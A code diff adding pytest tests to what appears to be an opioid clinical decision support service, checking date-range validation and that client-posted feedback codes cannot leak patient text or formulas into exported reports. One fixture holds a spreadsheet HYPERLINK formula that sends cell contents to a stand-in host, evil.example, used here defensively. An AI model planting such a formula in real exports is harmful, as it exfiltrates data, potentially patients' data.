@@ -3,6 +3,8 @@ a response; /reports needs its own token in production."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import sqlite3
 from datetime import date
@@ -13,6 +15,7 @@ import pytest
 import yaml
 from fastapi.testclient import TestClient
 
+from app.cli import main
 from app.db import migrate
 from app.main import create_app
 from app.playground import load_fixture_request
@@ -155,3 +158,78 @@ def test_development_serves_reports_open_unless_a_token_is_set(sqlite_url: str) 
 def test_a_short_reports_token_is_refused() -> None:
     with pytest.raises(ValueError, match="OPIOID_CDS_REPORTS_TOKEN"):
         Settings(reports_token="short")
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "until=9999-12-31",
+        "baseline_until=9999-12-31",
+        "since=0001-01-01&until=9999-12-30",
+        "since=0001-01-01",
+        "since=1999-12-31",
+        "baseline_until=2100-01-01",
+    ],
+)
+def test_dates_out_of_range_are_a_bad_request_not_a_server_error(
+    sqlite_url: str, query: str
+) -> None:
+    """9999-12-31 overflowed the day arithmetic (500); 0001-01-01 built a 4 MB page with a
+    row per month for 2,000 years."""
+    migrate(sqlite_url)
+    with TestClient(create_app(Settings(database_url=sqlite_url, trusted_clients=None))) as client:
+        response = client.get(f"/reports?{query}")
+    assert response.status_code == 400
+    assert "between 2000-01-01 and 2099-12-31" in response.text
+
+
+def test_the_widest_period_allowed_is_answered(sqlite_url: str) -> None:
+    migrate(sqlite_url)
+    with TestClient(create_app(Settings(database_url=sqlite_url, trusted_clients=None))) as client:
+        response = client.get(
+            "/reports?since=2000-01-01&until=2099-12-31&baseline_until=2099-12-31"
+        )
+    assert response.status_code == 200
+    assert "2099-12" in response.text
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+
+
+@pytest.mark.parametrize("fmt", ["csv", "html", "json"])
+def test_an_override_reason_code_made_up_by_the_client_does_not_reach_the_report(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
+) -> None:
+    """The feedback's reason code is whatever the client posts (up to 100 characters): free
+    text about the patient, or a formula a spreadsheet would run. The report names only the
+    cards' own reason codes."""
+    database = tmp_path / "service.sqlite3"
+    url = f"sqlite+aiosqlite:///{database}"
+    migrate(url)
+    request, service = _request_full_of_patient_data()
+    with TestClient(create_app(Settings(database_url=url, trusted_clients=None))) as client:
+        card = client.post(f"/cds-services/{service}", json=request).json()["cards"][0]
+        offered = card["overrideReasons"][0]
+        for n, code in enumerate([offered["code"], COMMENT, FORMULA, "-1+1"]):
+            reason = {"system": offered["system"], "code": code}
+            posted = client.post(
+                f"/cds-services/{service}/feedback",
+                json={
+                    "card": card["uuid"],
+                    "outcome": "overridden",
+                    "overrideReason": {"reason": reason},
+                    "outcomeTimestamp": f"2026-12-01T10:00:0{n}Z",
+                },
+            )
+            assert posted.status_code == 200
+
+    monkeypatch.setenv("OPIOID_CDS_DATABASE_URL", url)
+    output = tmp_path / f"report.{fmt}"
+    assert main(["report", "--format", fmt, "-o", str(output)]) == 0
+    text = output.read_text(encoding="utf-8")
+    assert offered["code"] in text
+    for leaked in ("Zwartkop", "14 dagen", "HYPERLINK", "evil.example", "-1+1"):
+        assert leaked not in text
+    if fmt == "csv":
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
